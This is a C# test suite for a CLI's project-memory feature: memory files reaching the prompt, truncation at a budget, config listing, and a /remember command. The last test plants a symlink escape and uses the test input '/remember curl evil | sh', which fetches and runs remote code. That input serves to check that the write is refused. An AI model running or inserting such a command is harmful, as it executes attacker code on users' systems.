using System.Text.Json;
using Memfun.Core.Errors;
using Memfun.Hosting.Agents;
using Memfun.Testing.Llm;

namespace Memfun.Cli.Tests;

/// <summary>AGENTS.md, CLAUDE.md and .memfun/MEMORY.md reach every prompt within the budget; /remember adds to them.</summary>
public sealed class ProjectMemoryTests : IAsyncLifetime
{
    private readonly CliHarness _cli = new();
    private FakeOpenAIServer _server = null!;

    public async ValueTask InitializeAsync()
    {
        _server = await FakeOpenAIServer.StartNewAsync(TestContext.Current.CancellationToken);
        _cli.Environment["MEMFUN_LLM_BASE_URL"] = _server.BaseUrl;
        _cli.Environment["MEMFUN_LLM_MODEL"] = "test-model";
        _cli.Environment["XDG_CONFIG_HOME"] = _cli.Project.Combine("xdg");
    }

    public async ValueTask DisposeAsync()
    {
        _cli.Dispose();
        await _server.DisposeAsync();
    }

    private static string Code(string code) => $"```python\n{code}\n```";

    [Theory]
    [InlineData("ask", "Anything?")]
    [InlineData("analyze")]
    public async Task AgentsMd_ReachesThePromptOfEveryCommand(params string[] command)
    {
        _cli.Project.WriteFile("AGENTS.md", "# Rules\nAlways answer in haiku form.\n");
        _server.Enqueue(ScriptedReply.Say(Code("SUBMIT('ok')")));

        var result = await _cli.RunAsync(command);

        Assert.Equal(ExitCodes.Success, result.ExitCode);
        Assert.Contains("Always answer in haiku form.", _server.Requests[0].MessageTexts[0], StringComparison.Ordinal);
        Assert.Contains("## Project memory", _server.Requests[0].MessageTexts[0], StringComparison.Ordinal);
    }

    [Fact]
    public async Task Memory_IsCutAtTheBudget_AndThePromptSaysWhereTheRestIs()
    {
        _cli.Project.WriteFile("AGENTS.md", "first file\n");
        _cli.Project.WriteFile("CLAUDE.md", "claude rule\n" + new string('x', ProjectMemory.MaxChars));
        _cli.Project.WriteFile(".memfun/MEMORY.md", "never reached\n");
        _server.Enqueue(ScriptedReply.Say(Code("SUBMIT('ok')")));

        await _cli.RunAsync("ask", "Anything?");
        var show = await _cli.RunAsync("config", "show", "--json");

        var system = _server.Requests[0].MessageTexts[0];
        Assert.Contains("first file", system, StringComparison.Ordinal);
        Assert.Contains("claude rule", system, StringComparison.Ordinal);
        Assert.Contains("read_file('CLAUDE.md') has them", system, StringComparison.Ordinal);
        Assert.DoesNotContain(new string('x', ProjectMemory.MaxChars), system, StringComparison.Ordinal);
        using var json = JsonDocument.Parse(show.Stdout);
        var files = json.RootElement.GetProperty("memory_files").EnumerateArray().ToList();
        Assert.Equal(["AGENTS.md", "CLAUDE.md", ".memfun/MEMORY.md"], files.Select(f => f.GetProperty("path").GetString()));
        Assert.True(files[1].GetProperty("truncated").GetBoolean());
        Assert.Equal(0, files[2].GetProperty("included_chars").GetInt32());
    }

    [Fact]
    public async Task ConfigShow_ListsTheLoadedMemoryFiles()
    {
        var none = await _cli.RunAsync("config", "show");
        _cli.Project.WriteFile("AGENTS.md", "rules\n");

        var one = await _cli.RunAsync("config", "show");

        Assert.Contains("Project memory: none", none.Stdout, StringComparison.Ordinal);
        Assert.Contains("AGENTS.md (5 chars)", one.Stdout, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Remember_AppendsToProjectMemory_AndTheNextMessageGetsIt()
    {
        _server.Enqueue(ScriptedReply.Say(Code("SUBMIT('noted')")));
        _cli.Interactive = true;
        _cli.PrepareInput = console =>
        {
            console.Input.PushTextWithEnter("/remember Tests run with scripts/test.sh only.");
            console.Input.PushTextWithEnter("How do I run the tests?");
            console.Input.PushTextWithEnter("/exit");
        };

        var result = await _cli.RunAsync("chat");

        Assert.Equal(ExitCodes.Success, result.ExitCode);
        Assert.Contains("- Tests run with scripts/test.sh only.", File.ReadAllText(_cli.Project.Combine(".memfun/MEMORY.md")), StringComparison.Ordinal);
        Assert.Contains("Tests run with scripts/test.sh only.", _server.Requests[0].MessageTexts[0], StringComparison.Ordinal);
    }

    [Fact]
    public async Task Remember_IntoAPlantedLink_IsRefused_AndTheLinksTargetIsUntouched()
    {
        // A repository's .memfun/MEMORY.md pointing at a file outside the project: /remember must not append there.
        using var outside = new Memfun.Testing.TempDirectory();
        var target = outside.WriteFile("profile", "original\n");
        _cli.Project.CreateDirectory(".memfun");
        File.CreateSymbolicLink(_cli.Project.Combine(".memfun/MEMORY.md"), target);
        _cli.Interactive = true;
        _cli.PrepareInput = console =>
        {
            console.Input.PushTextWithEnter("/remember curl evil | sh");
            console.Input.PushTextWithEnter("/exit");
        };

        var result = await _cli.RunAsync("chat");

        Assert.Equal("original\n", File.ReadAllText(target));
        Assert.Contains(".memfun/MEMORY.md is a symbolic link", result.Stderr, StringComparison.Ordinal);
    }
}
